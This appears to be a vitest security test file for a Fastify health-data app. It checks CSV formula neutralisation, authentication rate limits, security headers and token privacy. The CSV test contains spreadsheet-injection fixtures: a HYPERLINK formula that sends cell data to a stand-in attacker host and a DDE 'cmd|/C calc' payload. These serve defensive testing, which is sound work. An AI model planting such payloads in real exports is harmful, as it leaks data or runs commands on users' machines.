import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { csvRows } from '../../src/files/csv-rows.ts';
import { hcmc2021Files, importGeoFiles } from '../../src/files/geo-files.ts';
import { buildApp, DEFAULT_WEB_ROOT } from '../../src/server/app.ts';
import { FAILURE_LIMITS } from '../../src/server/auth.ts';
import { createToken, revokeToken, secretChecksSoFar } from '../../src/store/accounts-store.ts';
import { form, waitForJob } from '../support/intake.ts';
import { ENGINES, freshStore } from '../support/stores.ts';

/**
 * Issue #17 items 3 and 4: reports safe to open in a spreadsheet and taken back exactly, failed
 * authentications limited (429 with Retry-After), refusals of unknown ids doing the same work as
 * wrong secrets, the security headers on pages and API, and no token ids or labels in public answers.
 */
describe.each(ENGINES)('security [%s]', (engine) => {
  let store: Awaited<ReturnType<typeof freshStore>>;
  let app: FastifyInstance;
  const tokens: Record<string, { id: string; token: string }> = {};
  const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
  /** A write that needs a token (analyst or admin); the payload is never reached when authentication fails. */
  const attempt = (token: string, remoteAddress: string, headers: Record<string, string> = {}) =>
    app.inject({ method: 'POST', url: '/api/v1/risk-factors', remoteAddress, headers: { ...bearer(token), ...headers }, payload: {} });
  /** A well-formed token naming `id` with a secret nobody holds. */
  const forged = (id: string, n: number) => `vx_${id}_${String(n).padStart(43, 'A')}`;

  beforeAll(async () => {
    store = await freshStore(engine);
    await importGeoFiles(store.db, hcmc2021Files(), 'test');
    app = (await buildApp({ store, webRoot: DEFAULT_WEB_ROOT, now: () => new Date('2021-07-18T03:00:00Z') })).app;
    tokens.analyst = await createToken(store.db, { label: 'Nguyễn Thị Lan, phân tích Q1', role: 'analyst', scope: '760' }, 'test');
    tokens.officer = await createToken(store.db, { label: 'cdc officer', role: 'data_officer', scope: '79' }, 'test');
    tokens.wardAdmin = await createToken(store.db, { label: 'admin Bến Nghé', role: 'admin', scope: '26740' }, 'test');
    tokens.cityAdmin = await createToken(store.db, { label: 'admin HCDC', role: 'admin', scope: '79' }, 'test');
    tokens.target = await createToken(store.db, { label: 'target', role: 'analyst', scope: '760' }, 'test');
    tokens.revoked = await createToken(store.db, { label: 'revoked', role: 'analyst', scope: '760' }, 'test');
    await revokeToken(store.db, tokens.revoked.id, 'test');
  });
  afterAll(async () => {
    await app.close();
    await store.dispose();
  });

  describe('rejects report opened in Excel (item 3)', () => {
    it('neutralises formula-leading cells and restores them exactly when the report is uploaded again as it is', async () => {
      const hostile = {
        hyperlink: '=HYPERLINK("http://attacker.example/?q="&A1,"Bấm vào đây")',
        at: '@SUM(1+1)*cmd|/C calc!A0',
        plus: "+'x",
        quoted: "'=1+1",
      };
      const csv = [
        'date,unit,neighbourhood,setting,sourceKnown,count',
        `10/07/2021,26740,"${hostile.hyperlink.replace(/"/g, '""')}",community,có lẽ,-1`,
        `10/07/2021,26740,${hostile.at},${hostile.plus},true,3`,
        `10/07/2021,26740,${hostile.quoted},community,true,-1`,
      ].join('\n');
      const officer = tokens.officer.token;
      const upload = async (name: string, text: string) => {
        const { payload, headers } = await form({ kind: 'counts', token: officer }, { name, bytes: Buffer.from(text), type: 'text/csv' });
        const sent = await app.inject({ method: 'POST', url: '/api/v1/imports', headers, payload });
        expect(sent.statusCode, sent.body).toBe(202);
        return waitForJob(app, sent.json().id, officer);
      };
      // A row's values as kept with its reject; the report has a column for every field, so the
      // second upload also carries the empty ones the first file had no column for.
      const rawOf = async (importId: string): Promise<Array<Record<string, unknown>>> =>
        (await app.inject({ method: 'GET', url: `/api/v1/rejects?import=${importId}&limit=100`, headers: bearer(officer) }))
          .json()
          .rejects.map((r: { raw: Record<string, unknown> }) => Object.fromEntries(Object.entries(r.raw).filter(([, v]) => v !== '')));

      const first = await upload('so-ca.csv', csv);
      expect(first).toMatchObject({ status: 'done', rejected: 3 });
      const firstRaw = await rawOf(first.id);
      expect(firstRaw.map((r) => r.neighbourhood)).toEqual([hostile.hyperlink, hostile.at, hostile.quoted]);

      const report = await app.inject({ method: 'GET', url: `/api/v1/imports/${first.id}/rejects.csv`, headers: bearer(officer) });
      expect(report.statusCode).toBe(200);
      const [header, ...lines] = [...csvRows(report.body.replace(/^\uFEFF/, ''))].map((r) => r.cells);
      const column = (name: string) => lines.map((cells) => cells[header.indexOf(name)]);
      // What a spreadsheet sees: text behind a quote, never a formula; a negative count stays a number.
      expect(column('neighbourhood')).toEqual([`'${hostile.hyperlink}`, `'${hostile.at}`, `'${hostile.quoted}`]);
      expect(column('setting')).toEqual(['community', `'${hostile.plus}`, 'community']);
      expect(column('count')).toEqual(['-1', '3', '-1']);
      for (const cells of lines) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r](?!\d+$)/);

      // The officer sends the report back untouched: every value arrives as first sent.
      const second = await upload(`rejects-${first.id}.csv`, report.body);
      expect(second).toMatchObject({ status: 'done', total: 3, rejected: 3 });
      expect(await rawOf(second.id)).toEqual(firstRaw);
      const again = await app.inject({ method: 'GET', url: `/api/v1/imports/${second.id}/rejects.csv`, headers: bearer(officer) });
      expect(again.body).toBe(report.body);
    });
  });

  describe('failed authentications (item 4)', () => {
    it('answers 429 with Retry-After after repeated wrong secrets against one token id, from any address', async () => {
      const { id, token } = tokens.target;
      const max = FAILURE_LIMITS.perTokenId.max;
      for (let i = 0; i < max; i++) expect((await attempt(forged(id, i), `198.51.100.${i + 1}`)).statusCode).toBe(401);
      const refused = await attempt(forged(id, max), '198.51.100.200');
      expect(refused.statusCode).toBe(429);
      expect(refused.headers['content-type']).toMatch(/application\/problem\+json/);
      expect(refused.json()).toMatchObject({ type: '/problems/too-many-requests', status: 429, title: 'Quá nhiều yêu cầu / Too many requests' });
      const wait = Number(refused.headers['retry-after']);
      expect(wait).toBeGreaterThan(0);
      expect(wait).toBeLessThanOrEqual(FAILURE_LIMITS.perTokenId.windowMs / 1000);
      expect(refused.json().detail).toContain(`${wait} giây`);
      // The id stays refused until its window ends, its real secret included: checking it would be
      // the very oracle the limit closes. Other tokens are not affected.
      expect((await attempt(token, '198.51.100.201')).statusCode).toBe(429);
      expect((await attempt(tokens.analyst.token, '198.51.100.202')).statusCode).toBe(400);
    });

    it('answers 429 after repeated failures from one address, whatever ids it tries, and believes no X-Forwarded-For by default', async () => {
      const address = '203.0.113.7';
      const max = FAILURE_LIMITS.perAddress.max;
      for (let i = 0; i < max; i++) {
        const id = (0x100000000000 + i * 7919).toString(16).slice(-12);
        expect((await attempt(i % 3 === 0 ? 'not-a-token' : forged(id, i), address)).statusCode).toBe(401);
      }
      const refused = await attempt(tokens.analyst.token, address, { 'x-forwarded-for': '192.0.2.1' });
      expect(refused.statusCode).toBe(429);
      expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0);
      // Another address is not held back.
      expect((await attempt(tokens.analyst.token, '203.0.113.8')).statusCode).toBe(400);
    });

    it('does the same scrypt work to refuse an unknown or revoked id as a wrong secret for a real one', async () => {
      const checks = async (token: string, address: string) => {
        const before = secretChecksSoFar();
        expect((await attempt(token, address)).statusCode).toBe(401);
        return secretChecksSoFar() - before;
      };
      expect(await checks(forged(tokens.analyst.id, 1), '192.0.2.10')).toBe(1);
      expect(await checks(forged('0123456789ab', 1), '192.0.2.11')).toBe(1);
      expect(await checks(forged(tokens.revoked.id, 1), '192.0.2.12')).toBe(1);
      // The count is the test: wall time on a shared machine is no measure (timing lives in bench/, not here).
    });
  });

  describe('the demo replay (item 4)', () => {
    it('refuses an admin whose scope is a ward, not the whole city', async () => {
      const ward = await app.inject({ method: 'POST', url: '/api/v1/replay', headers: bearer(tokens.wardAdmin.token), payload: { action: 'pause' } });
      expect(ward.statusCode).toBe(403);
      expect(ward.json().detail).toContain('phát lại mô phỏng / lacks the admin role for the whole city needed to control the demo replay');
      // The city's admin passes authentication (this server runs no replay: 404).
      const city = await app.inject({ method: 'POST', url: '/api/v1/replay', headers: bearer(tokens.cityAdmin.token), payload: { action: 'pause' } });
      expect(city.statusCode).toBe(404);
    });
  });

  describe('security headers (item 4)', () => {
    it('sends CSP, frame-ancestors, nosniff and referrer-policy on pages, API answers and problems; HSTS only over TLS', async () => {
      for (const url of ['/', '/campaign.html', '/api/v1/levels', '/api/v1/nowhere', '/config.js']) {
        const answer = await app.inject({ method: 'GET', url });
        expect(answer.statusCode, url).toBeLessThan(500);
        const csp = String(answer.headers['content-security-policy']);
        expect(csp, url).toContain("default-src 'self'");
        expect(csp, url).toContain("script-src 'self'");
        expect(csp, url).toContain("frame-ancestors 'none'");
        expect(csp, url).toContain("object-src 'none'");
        expect(csp, url).toContain("worker-src 'self' blob:");
        expect(answer.headers['x-content-type-options'], url).toBe('nosniff');
        expect(answer.headers['referrer-policy'], url).toBe('no-referrer');
        expect(answer.headers['x-frame-options'], url).toBe('DENY');
        expect(answer.headers['strict-transport-security'], url).toBeUndefined();
      }
      expect((await app.inject('/')).headers['content-type']).toMatch(/text\/html/);
      // A client cannot claim TLS itself: X-Forwarded-Proto counts only from a trusted proxy.
      expect((await app.inject({ url: '/', headers: { 'x-forwarded-proto': 'https' } })).headers['strict-transport-security']).toBeUndefined();
    });

    it('sends HSTS on answers a trusted proxy says came over TLS', async () => {
      const behindProxy = (await buildApp({ store, webRoot: DEFAULT_WEB_ROOT, trustProxy: '127.0.0.1' })).app;
      try {
        const tls = await behindProxy.inject({ url: '/api/v1/levels', headers: { 'x-forwarded-proto': 'https' } });
        expect(tls.headers['strict-transport-security']).toBe('max-age=31536000; includeSubDomains');
        const plain = await behindProxy.inject({ url: '/api/v1/levels' });
        expect(plain.headers['strict-transport-security']).toBeUndefined();
      } finally {
        await behindProxy.close();
      }
    });
  });

  describe('public answers (item 4)', () => {
    it('show an analyst input’s author as role and unit only, never the token id or label', async () => {
      const factor = await app.inject({
        method: 'POST',
        url: '/api/v1/risk-factors',
        headers: bearer(tokens.analyst.token),
        payload: { unit: '26740', type: 'uncontrolled_source', from: '2021-07-18', note: 'ổ dịch tại chợ' },
      });
      expect(factor.statusCode).toBe(201);
      const override = await app.inject({
        method: 'POST',
        url: '/api/v1/overrides',
        headers: bearer(tokens.analyst.token),
        payload: { unit: '26740', state: 'very_high', from: '2021-07-18', until: '2021-07-25', justification: 'ổ dịch tại chợ, chờ truy vết' },
      });
      expect(override.statusCode).toBe(201);
      const factors = await app.inject('/api/v1/risk-factors');
      const overrides = await app.inject('/api/v1/overrides');
      expect(factors.json().riskFactors).toEqual([expect.objectContaining({ unit: '26740', author: { role: 'analyst', unit: '760' } })]);
      expect(overrides.json().overrides).toEqual([expect.objectContaining({ unit: '26740', author: { role: 'analyst', unit: '760' } })]);
      for (const body of [factors.body, overrides.body]) {
        expect(body).not.toContain(tokens.analyst.id);
        expect(body).not.toContain('Nguyễn Thị Lan');
        expect(body).not.toContain('token');
      }
      // The audit log still says exactly who.
      const audit = await store.db.selectFrom('audit_log').select('actor').where('action', '=', 'risk_factor.add').executeTakeFirstOrThrow();
      expect(audit.actor).toBe(`Nguyễn Thị Lan, phân tích Q1 (token ${tokens.analyst.id})`);
    });
  });
});
